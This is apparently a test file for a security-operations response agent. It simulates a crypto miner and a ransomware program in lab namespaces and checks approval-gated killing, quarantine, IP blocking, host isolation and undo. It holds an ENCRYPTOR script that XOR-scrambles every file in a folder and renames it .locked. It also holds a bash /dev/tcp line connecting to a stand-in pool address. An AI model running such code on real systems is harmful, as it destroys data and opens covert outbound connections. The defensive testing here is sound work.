"""The soc agent for real: a harmless binary called xmrig, begun by a shell, is ended with its tree after an approval, its file put into
quarantine, the pool's address blocked; undo brings file and address back. A host is isolated from within and released again. With real logs
of auditd: a miner behind a real firewall, and a program that encrypts a share."""
import json
import os
import shutil
import subprocess
import tempfile
import time

from audit_daemon import AuditDaemon
from bus import credentials_of
from harness import SOC, Case, Firewall, Node, attack_line, children_of, need_root, push, started_at, wait_for, is_running
from response_site import ResponseSite
from web_lab import PREFIX, WebLab

AGENTS = {"name": "agents", "component": "soc_agent", "tags": ["endpoint"]}


def start_time(pid):
    """Unix seconds at which a process began, from /proc."""
    with open("/proc/stat", encoding="ascii") as file:
        booted = next(int(line.split()[1]) for line in file if line.startswith("btime"))
    return booted + started_at(pid) // os.sysconf("SC_CLK_TCK")


def runs(pid):
    """Whether a process still does something; one that ended and waits for its parent to look doesn't."""
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as file:
            return file.read().rsplit(")", 1)[1].split()[0] not in "ZX"
    except OSError:
        return False


class WithAgent(Case):
    def agent(self, node, allow, host="web-01", **more):
        """`soc agent` beside a node: with the node's own NATS and the key that the node signs with."""
        url, user, password = credentials_of(node)
        secret = self.write("agent.password", password, 0o600)
        key = self.soc("audit", "key", "--data", self.path(node.name, "data"))[1].strip()
        nats = {"urls": [url if "://" in url else "nats://" + url], **({"user": user, "password": "file:" + secret} if user else {})}
        config = {"host": host, "folder": self.path("agent"), "allow": allow, "trusted_key": key, "nats": nats, **more}
        process = self.start("agent", SOC, "agent", "--config", self.write("agent.yaml", json.dumps(config)))
        wait_for("the agent to take orders", lambda: process.poll() is None and "takes orders" in self.output_of("agent"), 20)
        return process


class Agent(WithAgent):
    def miner(self):
        """A copy of sleep called xmrig, under a shell. The shell's id and the file."""
        binary = self.path("tmp", "xmrig")
        os.makedirs(os.path.dirname(binary), exist_ok=True)
        shutil.copy("/bin/sleep", binary)
        shell = self.start("miner", "/bin/sh", "-c", f"{binary} 600 & {binary} 601 & wait")
        wait_for("the miners to run", lambda: len(children_of(shell.pid)) == 2)
        return shell, binary

    def test_a_miner_is_ended_with_its_tree_its_file_quarantined_and_all_of_it_undone(self):
        firewall = Firewall(self)
        shell, binary = self.miner()
        tree = [shell.pid, *children_of(shell.pid)]
        process = f"web-01|{shell.pid}|{start_time(shell.pid)}"
        playbook = {"name": "stop_miner_here", "trigger": "incident", "inputs": {"incident": {"type": "object"}}, "steps": [
            {"id": "evidence", "action": "collect_evidence", "target": "web-01"},
            {"id": "agreed", "approval": {"message": "End the miner?"}},
            {"id": "kill", "action": "kill_process_tree", "target": process},
            {"id": "quarantine", "action": "quarantine_file", "target": f"web-01|{binary}"},
            {"id": "pool", "action": "block_ip", "target": "198.51.100.77", "for": "1h"},
            {"id": "result", "set_output": {"killed": "${steps.kill.output.killed}", "evidence": "${steps.evidence.output.sha256}"}}]}
        site = ResponseSite(self, playbook, [AGENTS, firewall.instance()], for_each=False)
        site.node.start()
        self.agent(site.node, ["collect_evidence", "kill_process_tree", "get_process", "quarantine_file", "restore_file", "get_file"])
        self.assertEqual(200, push(site.port, [attack_line("203.0.113.9", n) for n in range(3)]))
        run = wait_for("the run to wait for a person", lambda: next((r for r in site.runs() if r["status"] == "waiting"), None), 60)
        self.assertTrue(all(os.path.exists(f"/proc/{pid}") for pid in tree), "nothing is done before somebody agreed")
        began = time.monotonic()
        site.node.shell(f"approve {run['run']} agreed", check=True)
        wait_for("the run to end", lambda: [r for r in site.runs() if r["status"] == "completed"], 30)
        print(f"   from approval to the end of the run: {time.monotonic() - began:.2f} s", flush=True)
        shell.wait(5)
        self.assertFalse([pid for pid in tree if is_running(pid)], "the whole tree has ended")
        self.assertFalse(os.path.exists(binary))
        self.assertIn("198.51.100.77", firewall.blocked())
        site.node.shell(f"undo {run['run']} it was a test", check=True)
        wait_for("the file to be back", lambda: os.path.exists(binary), 20)
        wait_for("the address to be free", lambda: "198.51.100.77" not in firewall.blocked(), 20)
        self.assertTrue(os.access(binary, os.X_OK), "as it was")

    def test_what_the_agents_own_file_doesnt_allow_isnt_done(self):
        shell, binary = self.miner()
        playbook = {"name": "too_much", "trigger": "incident", "inputs": {"incident": {"type": "object"}}, "steps": [
            {"id": "kill", "action": "kill_process_tree", "target": f"web-01|{shell.pid}|{start_time(shell.pid)}"}]}
        site = ResponseSite(self, playbook, [AGENTS], for_each=False)
        site.node.start()
        self.agent(site.node, ["quarantine_file", "get_file"])
        self.assertEqual(200, push(site.port, [attack_line("203.0.113.9", n) for n in range(3)]))
        failed = wait_for("the run to fail", lambda: next((r for r in site.runs() if r["status"] == "failed"), None), 60)
        self.assertIn("not allowed on this host", failed["reason"])
        self.assertIsNone(shell.poll())

    def test_a_host_is_isolated_and_released(self):
        need_root(self)
        space = f"soc{os.getpid()}"
        if subprocess.run(["ip", "netns", "add", space], check=False, capture_output=True).returncode != 0 or not shutil.which("nft"):
            self.skipTest("no network namespaces or no nft")
        self.addCleanup(subprocess.run, ["ip", "netns", "del", space], check=False)
        playbook = {"name": "isolate_here", "trigger": "incident", "inputs": {"incident": {"type": "object"}}, "steps": [
            {"id": "isolate", "action": "isolate_host", "target": "web-01"}]}
        site = ResponseSite(self, playbook, [AGENTS], for_each=False)
        site.node.start()
        self.agent(site.node, ["isolate_host", "release_host", "get_isolation"], network_namespace=space, reachable=["192.0.2.10"])
        self.assertEqual(200, push(site.port, [attack_line("203.0.113.9", n) for n in range(3)]))
        task = wait_for("the host to be isolated", lambda: next((t for t in site.node.tasks() if t["status"] == "verified"), None), 60)
        rules = subprocess.run(["ip", "netns", "exec", space, "nft", "list", "table", "inet", "soc_isolation"], capture_output=True, text=True, check=True).stdout
        self.assertIn("policy drop", rules)
        self.assertIn("192.0.2.10", rules)
        site.node.shell(f"undo {task['task']} it was a test", check=True)
        wait_for("the host to be released", lambda: subprocess.run(
            ["ip", "netns", "exec", space, "nft", "list", "table", "inet", "soc_isolation"], capture_output=True, check=False).returncode != 0, 20)


ENCRYPTOR = """import os, sys, time
for name in sorted(os.listdir(sys.argv[1])):
    path = os.path.join(sys.argv[1], name)
    with open(path, "r+b") as file:
        content = bytes(b ^ 0x5A for b in file.read())
        file.seek(0)
        file.write(content)
    os.rename(path, path + ".locked")
    time.sleep(0.01)
"""


class Ransomware(WithAgent):
    alone = True   # it measures moments; audit rules are the kernel's

    def setUp(self):
        super().setUp()
        need_root(self)
        self.space = f"soc{os.getpid()}"
        if not shutil.which("nft") or subprocess.run(["ip", "netns", "add", self.space], check=False, capture_output=True).returncode != 0:
            self.skipTest("no network namespaces or no nft")
        self.addCleanup(subprocess.run, ["ip", "netns", "del", self.space], check=False)

    def isolated(self):
        return subprocess.run(["ip", "netns", "exec", self.space, "nft", "list", "table", "inet", "soc_isolation"], capture_output=True, check=False).returncode == 0

    def test_a_program_that_encrypts_a_share_is_ended_and_its_host_cut_off(self):
        share = self.path("share")
        for n in range(2000):
            self.write(f"share/plan{n:04}.docx", b"some words " * 40)
        audit = AuditDaemon(self, "fs-1", [["always,exit", "-F", "arch=b64", "-F", f"dir={share}", "-F", "perm=wa", "-k", "share"]])
        self.write("resources/agents.yaml", json.dumps({"instances": [AGENTS]}))
        node = Node(self, connectors=[{"name": "audit", "kind": "file", "paths": [audit.log], "multiline": "audit_serial"}],
                    content={"resources": self.path("resources")}).start()
        self.agent(node, ["kill_process_tree", "get_process", "isolate_host", "release_host", "get_isolation", "collect_evidence"], host="fs-1",
                   network_namespace=self.space, reachable=["127.0.0.1"])
        began = time.monotonic()
        encryptor = self.start("encryptor", "python3", self.write("encrypt.py", ENCRYPTOR), share)
        times = {}

        def both():
            now = time.monotonic() - began
            if encryptor.poll() is not None:
                times.setdefault("ended", now)
            if self.isolated():
                times.setdefault("isolated", now)
            return len(times) == 2
        try:
            wait_for("the program to be ended and the host cut off", both, 30, 0.01)
        finally:
            lost = len([name for name in os.listdir(share) if name.endswith(".locked")])
            print(f"   from the first file: {', '.join(f'{what} after {at:.2f} s' for what, at in sorted(times.items()))}; {lost} of 2000 files lost", flush=True)
        self.assertEqual(-9, encryptor.returncode, "it was ended, it did not finish")
        self.assertLess(lost, 2000)
        wait_for("both to be read back", lambda: all(t["status"] == "verified" for t in node.tasks()
                                                      if t["action"] in ("kill_process_tree", "isolate_host")), 10, 0.2)
        incident = node.incidents()[0]
        self.assertIn("ansomware", incident["title"])
        node.shell(f"undo {incident['incident']} it was a test", check=True)
        wait_for("the host to be released", lambda: not self.isolated(), 20)


POOL = "198.51.100.77"


class Mining(WithAgent):
    alone = True   # namespaces with names of their own; audit rules are the kernel's

    def miner(self, folder):
        """A copy of bash called xmrig, begun by a shell of www-data on the web server; it talks to the pool. The shell."""
        binary = os.path.join(folder, "xmrig")
        shutil.copy("/bin/bash", binary)
        mine = f"{binary} -c 'exec 3<>/dev/tcp/{POOL}/3333; echo login >&3; read -u 3 job' -o stratum+tcp://{POOL}:3333 & wait"
        return self.start("miner", *self.lab.inside("web", "setpriv", "--reuid", "33", "--regid", "33", "--clear-groups", "/bin/sh", "-c", mine), cwd="/"), binary

    def agree(self, node):
        """A person says yes to all that waits; whether anything did."""
        waiting = [run["run"] for run in node.shell("runs --last 1000") or [] if run["status"] == "waiting"]
        waiting += [task["task"] for task in node.tasks() if task["status"] == "waiting_approval"]
        for one in waiting:
            node.shell(f"approve {one} it mines")
        return bool(waiting)

    def test_a_miner_seen_by_auditd_is_ended_taken_away_and_cut_off_after_a_yes_and_all_of_it_undone(self):
        self.lab = WebLab(self)
        folder = tempfile.mkdtemp(prefix="soc-miner-", dir="/var/tmp")
        self.addCleanup(shutil.rmtree, folder, ignore_errors=True)
        os.chmod(folder, 0o777)
        self.start("pool", *self.lab.inside("atk", "python3", "-c", "import socket,time\ns=socket.create_server(('%s',3333))\nk=[]\nwhile 1: k.append(s.accept())" % POOL))
        node = Node(self, instances=[self.lab.firewall(), AGENTS], connectors=self.lab.connectors()).start()
        self.addCleanup(lambda: self.end(node.process.pid))   # before the namespaces go
        self.agent(node, ["collect_evidence", "kill_process_tree", "get_process", "quarantine_file", "restore_file", "get_file"])
        began = time.monotonic()
        shell, binary = self.miner(folder)
        incident = wait_for("the incident", lambda: next((i for i in node.incidents() if "mining" in i["title"].lower()), None), 30, 0.05)
        told = time.monotonic() - began
        tree = wait_for("the miner to run", lambda: children_of(shell.pid), 5)
        wait_for("a person to be asked", lambda: [t for t in node.tasks() if t["status"] == "waiting_approval"] or [r for r in node.shell("runs") if r["status"] == "waiting"], 30)
        self.assertTrue(os.path.exists(binary) and is_running(tree[0]) and not self.lab.blocked(POOL), "nothing is done before somebody agreed")
        agreed = time.monotonic()

        def over():
            self.agree(node)
            return not is_running(tree[0]) and not os.path.exists(binary) and self.lab.blocked(POOL)
        wait_for("miner, file and pool to be dealt with", over, 60, 0.2)
        print(f"   from its start to the incident {told:.2f} s; from the first yes to all of it done {time.monotonic() - agreed:.2f} s", flush=True)
        try:
            wait_for("all to be verified", lambda: not self.agree(node) and {t["status"] for t in node.tasks()} <= {"verified", "done"}, 30, 0.5)
        except AssertionError as late:
            raise AssertionError("\n".join(f"{t['status']} {t['action']} {t['target']}: {t['detail']}" for t in node.tasks())) from late
        node.shell(f"undo {incident['incident']} it was a test", check=True)
        wait_for("the file to be back", lambda: os.access(binary, os.X_OK), 20)
        wait_for("the address to be free", lambda: not self.lab.blocked(POOL), 90)   # an answer lost on the way is asked for again after 30 to 60 s
